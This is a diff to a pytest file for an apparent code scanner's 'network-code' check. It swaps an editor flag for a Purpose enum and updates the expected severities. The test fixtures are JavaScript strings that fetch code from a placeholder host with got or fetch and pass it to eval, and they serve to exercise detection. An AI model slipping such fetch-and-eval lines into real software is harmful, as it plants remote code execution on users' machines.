@@ -5,6 +5,7 @@ import pytest
 from tests.flows import findings_of, worst
 from vscan.model import Severity
 from vscan.providers.offline.checks.network_code import CHECK
+from vscan.providers.offline.manifest_values import Purpose
 
 RULE = "network-code"
 START = """
@@ -120,10 +121,9 @@ def test_a_program_in_a_text_is_examined_too() -> None:
 )
 def test_what_only_pages_can_do_is_less_in_a_library(source: str) -> None:
     """Node has no XMLHttpRequest, and its fetch takes no relative address."""
-    used = 'const vscode = require("vscode");' + source
-    assert worst(findings_of(CHECK, used), RULE) == Severity.CRITICAL
-    assert worst(findings_of(CHECK, source), RULE) == Severity.MEDIUM
-    assert worst(findings_of(CHECK, used, is_for_editor=False), RULE) == Severity.MEDIUM
+    assert worst(findings_of(CHECK, source), RULE) == Severity.CRITICAL
+    for purpose in (Purpose.COMMAND, Purpose.LIBRARY):
+        assert worst(findings_of(CHECK, source, purpose=purpose), RULE) == Severity.MEDIUM
 
 
 @pytest.mark.parametrize("address", ["https://a.invalid/s", "//a.invalid/s", "...", "./"])
@@ -131,4 +131,5 @@ def test_what_node_can_do_is_critical_in_a_library(address: str) -> None:
     source = f"require('got')('{address}').then((t) => eval(t.body));"
     if not address.startswith("./"):
         source += f"fetch('{address}').then((r) => r.text()).then((t) => eval(t));"
-    assert worst(findings_of(CHECK, source, is_for_editor=False), RULE) == Severity.CRITICAL
+    for purpose in Purpose:
+        assert worst(findings_of(CHECK, source, purpose=purpose), RULE) == Severity.CRITICAL
